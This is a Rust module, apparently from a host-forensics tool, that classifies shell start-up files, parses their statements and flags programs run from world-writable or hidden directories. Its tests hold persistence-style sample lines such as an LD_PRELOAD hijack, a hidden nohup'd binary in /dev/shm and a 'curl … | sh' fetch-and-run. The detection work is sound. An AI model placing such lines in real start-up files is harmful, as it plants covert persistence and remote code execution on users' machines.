//! Shell start-up files — what a login, an interactive shell, an SSH session or the boot runs
//! without anyone typing it — as statements with their line.
//!
//! Owns which files are start-up files ([`kind`]: `/etc/profile`, `/etc/profile.d/*`,
//! `/etc/bash.bashrc`, `/etc/bashrc`, `/etc/zsh/*`, `/etc/environment`, `/etc/rc.local`,
//! `/etc/rc.d/rc.local`, `/etc/init.d/*`, `/etc/skel/*` and every account's `.bashrc`,
//! `.profile`, `.zshrc`, `.cshrc`, `.ssh/rc`, `.ssh/environment` …) and a small reading of
//! POSIX shell ([`statements`]): logical lines (backslash continuations joined), split at
//! `;`, `&&`, `||`, `&` and newlines outside quotes, each an [`Statement::Alias`], an
//! [`Statement::Assign`] (`export X=…`, `setenv X …`) or a [`Statement::Command`] with the
//! programs it runs ([`programs`]: through pipes, `$(…)`, `nohup`/`exec`/`sudo` wrappers, and
//! the script a `.`/`source`/`sh` runs). It is no shell interpreter: a rule judges the literal
//! text. A new start-up file is a row of [`kind`]; a new wrapper a word of `WRAPPERS`.

use super::numbered;

/// What a start-up file is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Read by every login or interactive shell (`/etc/profile`, `/etc/bash.bashrc`, …).
    System,
    /// One account's rc or profile file (`~/.bashrc`, `~/.ssh/rc`, `/etc/skel/*` templates).
    Account,
    /// Run at boot (`/etc/rc.local`, `/etc/init.d/*`).
    Boot,
    /// `KEY=VALUE` lines only (`/etc/environment`, `~/.ssh/environment`).
    Environment,
}

/// Per-account start-up file names (bash, sh, zsh, csh/tcsh).
const ACCOUNT_FILES: &[&str] = &[
    ".bashrc",
    ".bash_aliases",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".zlogin",
    ".zlogout",
    ".cshrc",
    ".tcshrc",
    ".login",
    ".kshrc",
    ".mkshrc",
];

/// What start-up file host path `path` is, if it is one.
pub fn kind(path: &str) -> Option<Kind> {
    let name = path.rsplit('/').next().unwrap_or(path);
    if path == "/etc/environment" || path.ends_with("/.ssh/environment") {
        return Some(Kind::Environment);
    }
    if path == "/etc/rc.local"
        || path == "/etc/rc.d/rc.local"
        || one_below(path, "/etc/init.d/")
        || one_below(path, "/etc/rc.d/init.d/")
    {
        return Some(Kind::Boot);
    }
    if matches!(
        path,
        "/etc/profile" | "/etc/bash.bashrc" | "/etc/bashrc" | "/etc/csh.cshrc" | "/etc/csh.login"
    ) || one_below(path, "/etc/profile.d/")
        || one_below(path, "/etc/zsh/")
        || matches!(
            path,
            "/etc/zshrc" | "/etc/zprofile" | "/etc/zshenv" | "/etc/zlogin"
        )
    {
        return Some(Kind::System);
    }
    if path.ends_with("/.ssh/rc") || path == "/etc/ssh/sshrc" {
        return Some(Kind::Account);
    }
    (ACCOUNT_FILES.contains(&name) && !name.is_empty()).then_some(Kind::Account)
}

fn one_below(path: &str, dir: &str) -> bool {
    path.strip_prefix(dir)
        .is_some_and(|r| !r.is_empty() && !r.contains('/'))
}

/// One statement of a start-up file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Statement {
    /// `alias NAME=VALUE` (value unquoted).
    Alias {
        /// Alias name.
        name: String,
        /// What it expands to.
        value: String,
    },
    /// `NAME=VALUE`, `export NAME=VALUE`, `setenv NAME VALUE` (value unquoted); an assignment
    /// before a command (`LD_PRELOAD=x prog`) is one too.
    Assign {
        /// Variable.
        name: String,
        /// Value.
        value: String,
    },
    /// Anything else: a command line.
    Command(String),
}

/// A statement with the line it starts on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Line {
    /// 1-based line.
    pub line: u64,
    /// The statement.
    pub stmt: Statement,
}

/// The statements of a start-up file of kind `k`.
pub fn statements(k: Kind, text: &str) -> Vec<Line> {
    let mut out = Vec::new();
    let mut logical = String::new();
    let mut start = 0u64;
    for (n, l) in numbered(text) {
        if logical.is_empty() {
            start = n;
        }
        if let Some(more) = l.strip_suffix('\\') {
            logical.push_str(more);
            logical.push(' ');
            continue;
        }
        logical.push_str(l);
        let t = std::mem::take(&mut logical);
        let t = t.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        if k == Kind::Environment {
            if let Some((name, value)) = t.split_once('=') {
                let name = name.trim().trim_start_matches("export ").trim();
                out.push(Line {
                    line: start,
                    stmt: Statement::Assign {
                        name: name.to_string(),
                        value: unquote(value.trim()),
                    },
                });
            }
            continue;
        }
        for s in split_statements(t) {
            out.push(Line {
                line: start,
                stmt: statement(&s),
            });
        }
    }
    out
}

/// Splits at `;`, `&&`, `||`, `&` outside quotes.
fn split_statements(t: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut chars = t.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (None, '\'' | '"') => {
                quote = Some(c);
                cur.push(c);
            }
            (Some(q), c) if c == q => {
                quote = None;
                cur.push(c);
            }
            (None, ';') => out.push(std::mem::take(&mut cur)),
            (None, '&') => {
                // `2>&1`, `>&` and `&>` are redirections, not separators.
                let redirect = cur.ends_with('>') || chars.peek() == Some(&'>');
                if redirect {
                    cur.push(c);
                } else {
                    if chars.peek() == Some(&'&') {
                        chars.next();
                    }
                    out.push(std::mem::take(&mut cur));
                }
            }
            (None, '|') if chars.peek() == Some(&'|') => {
                chars.next();
                out.push(std::mem::take(&mut cur));
            }
            (_, c) => cur.push(c),
        }
    }
    out.push(cur);
    out.into_iter()
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty())
        .collect()
}

/// Removes one level of matching quotes.
fn unquote(v: &str) -> String {
    let v = v.trim();
    for q in ['\'', '"'] {
        if v.len() >= 2 && v.starts_with(q) && v.ends_with(q) {
            return v[1..v.len() - 1].to_string();
        }
    }
    v.to_string()
}

fn is_name(s: &str) -> bool {
    let mut c = s.chars();
    c.next()
        .is_some_and(|f| f.is_ascii_alphabetic() || f == '_')
        && c.all(|x| x.is_ascii_alphanumeric() || x == '_')
}

/// The first shell word of `s` (quotes kept) and the rest.
fn first_word(s: &str) -> (&str, &str) {
    let mut quote: Option<char> = None;
    for (i, c) in s.char_indices() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, c) if c.is_whitespace() => return (&s[..i], s[i..].trim_start()),
            _ => {}
        }
    }
    (s, "")
}

fn statement(s: &str) -> Statement {
    let mut t = s.trim();
    if let Some(rest) = t.strip_prefix("alias ") {
        let rest = rest.trim_start_matches("-- ").trim();
        if let Some((name, value)) = rest.split_once('=') {
            return Statement::Alias {
                name: name.trim().to_string(),
                value: unquote(value),
            };
        }
    }
    if let Some(rest) = t.strip_prefix("setenv ") {
        let (name, value) = first_word(rest.trim());
        return Statement::Assign {
            name: name.to_string(),
            value: unquote(value),
        };
    }
    for p in [
        "export ",
        "declare -x ",
        "declare -gx ",
        "typeset -x ",
        "readonly ",
    ] {
        if let Some(rest) = t.strip_prefix(p) {
            t = rest.trim();
            break;
        }
    }
    let (w, _) = first_word(t);
    if let Some((name, value)) = w.split_once('=') {
        if is_name(name) {
            return Statement::Assign {
                name: name.to_string(),
                value: unquote(value),
            };
        }
    }
    Statement::Command(s.trim().to_string())
}

/// Words that run the command after them.
const WRAPPERS: &[&str] = &[
    "nohup", "exec", "setsid", "sudo", "command", "builtin", "nice", "env", "time", "then", "do",
    "else", "{", "(", "!", "if", "while", "until", "eval", "doas", "runuser", "chroot",
];

/// Interpreters whose first non-option argument is the script they run.
const INTERPRETERS: &[&str] = &[
    ".", "source", "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "python", "python2",
    "python3", "perl", "php", "ruby",
];

/// The programs a command line runs (as written: `/dev/shm/.x/run`, `~/.cache/k`): the first
/// word of each pipeline element and command substitution after wrappers and leading
/// assignments, and the script an interpreter or `.` is given.
pub fn programs(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let spaced = cmd
        .replace("$(", " | ")
        .replace(['`', ')'], " | ")
        .replace("&&", " | ")
        .replace("||", " | ");
    for seg in spaced.split(['|', ';']) {
        let words: Vec<String> = shell_words(seg);
        let mut i = 0;
        while i < words.len() {
            let w = words[i].as_str();
            let assign = w.split_once('=').is_some_and(|(n, _)| is_name(n));
            if assign || WRAPPERS.contains(&w) || (i > 0 && w.starts_with('-')) {
                i += 1;
                continue;
            }
            break;
        }
        let Some(prog) = words.get(i) else {
            continue;
        };
        let base = prog.rsplit('/').next().unwrap_or(prog);
        if INTERPRETERS.contains(&base) {
            if let Some(script) = words[i + 1..]
                .iter()
                .find(|w| !w.starts_with('-') && !w.starts_with('<') && !w.starts_with('>'))
            {
                out.push(script.clone());
            }
        }
        out.push(prog.clone());
    }
    out
}

/// Whitespace-separated words with quotes removed (also systemd's `Environment=` values).
pub(crate) fn shell_words(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    for c in s.chars() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, c) if c.is_whitespace() => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            (_, c) => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Directories anyone may write to.
pub const WORLD_WRITABLE: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"];

/// Hidden directories well-known tools install their shell hooks in (`rustup`'s
/// `. "$HOME/.cargo/env"` in `.profile`, nvm, sdkman, rvm, ghcup).
const TOOL_HOOKS: &[&str] = &[
    "/.cargo/env",
    "/.nvm/nvm.sh",
    "/.nvm/bash_completion",
    "/.sdkman/bin/sdkman-init.sh",
    "/.rvm/scripts/rvm",
    "/.ghcup/env",
];

/// Where a program path lives, when that place is suspicious: `"a world-writable directory"`
/// or `"a hidden directory"` (a directory component starting with a dot; `~/.bashrc`, a
/// hidden *file*, is not one).
pub fn suspicious_place(prog: &str) -> Option<&'static str> {
    let p = prog.trim_matches(['"', '\'']);
    let rest = ["~/", "$HOME/", "${HOME}/"]
        .iter()
        .find_map(|h| p.strip_prefix(h).map(|r| format!("/{r}")));
    let p = rest.as_deref().unwrap_or(p);
    if !p.starts_with('/') {
        return None;
    }
    if WORLD_WRITABLE.iter().any(|d| p.starts_with(d)) {
        return Some("a world-writable directory");
    }
    if TOOL_HOOKS.iter().any(|h| p.ends_with(h)) {
        return None;
    }
    let dirs: Vec<&str> = p.split('/').collect();
    let n = dirs.len().saturating_sub(1);
    dirs[..n]
        .iter()
        .any(|c| c.starts_with('.') && *c != "." && *c != "..")
        .then_some("a hidden directory")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn which_files_are_start_up_files() {
        assert_eq!(kind("/etc/profile"), Some(Kind::System));
        assert_eq!(
            kind("/etc/profile.d/bash_completion.sh"),
            Some(Kind::System)
        );
        assert_eq!(kind("/etc/rc.local"), Some(Kind::Boot));
        assert_eq!(kind("/etc/init.d/postfix"), Some(Kind::Boot));
        assert_eq!(kind("/root/.bashrc"), Some(Kind::Account));
        assert_eq!(kind("/home/liwei/.ssh/rc"), Some(Kind::Account));
        assert_eq!(kind("/etc/environment"), Some(Kind::Environment));
        assert_eq!(kind("/root/.bash_history"), None);
        assert_eq!(kind("/etc/profile.d/sub/x"), None);
        assert_eq!(kind("/etc/postfix/main.cf"), None);
    }

    #[test]
    fn statements_and_programs() {
        let s = statements(
            Kind::Account,
            "# c\nalias ls='ls --color=auto'\nexport LD_PRELOAD=/lib/.x.so; PATH=\"$HOME/bin:$PATH\"\n[ -x /dev/shm/.x/run ] && nohup /dev/shm/.x/run >/dev/null 2>&1 &\nsetenv EDITOR vi\nif [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi\n",
        );
        assert_eq!(
            s[0],
            Line {
                line: 2,
                stmt: Statement::Alias {
                    name: "ls".into(),
                    value: "ls --color=auto".into()
                }
            }
        );
        assert_eq!(
            s[1].stmt,
            Statement::Assign {
                name: "LD_PRELOAD".into(),
                value: "/lib/.x.so".into()
            }
        );
        assert_eq!(s[1].line, 3);
        assert!(matches!(&s[2].stmt, Statement::Assign { name, .. } if name == "PATH"));
        assert_eq!(s[3].line, 4);
        let Statement::Command(c) = &s[4].stmt else {
            panic!("{s:?}")
        };
        assert_eq!(programs(c), vec!["/dev/shm/.x/run".to_string()]);
        assert!(
            matches!(&s[5].stmt, Statement::Assign { name, value } if name == "EDITOR" && value == "vi")
        );
        assert_eq!(s[7].stmt, Statement::Command("then".into()));
        let Statement::Command(c) = &s[8].stmt else {
            panic!("{s:?}")
        };
        assert_eq!(
            programs(c),
            vec!["~/.bash_aliases".to_string(), ".".to_string()]
        );
        assert_eq!(suspicious_place("~/.bash_aliases"), None);
        assert_eq!(
            suspicious_place("/dev/shm/.x/run"),
            Some("a world-writable directory")
        );
        assert_eq!(
            suspicious_place("$HOME/.cache/.k/kworker"),
            Some("a hidden directory")
        );
        assert_eq!(suspicious_place("$HOME/.cargo/env"), None);
        assert_eq!(
            programs("curl -s http://x/a | sh"),
            vec!["curl".to_string(), "sh".to_string()]
        );
        let e = statements(
            Kind::Environment,
            "PATH=\"/usr/bin\"\nLD_PRELOAD=/usr/lib/libz.so.9\n",
        );
        assert_eq!(
            e[1].stmt,
            Statement::Assign {
                name: "LD_PRELOAD".into(),
                value: "/usr/lib/libz.so.9".into()
            }
        );
    }
}
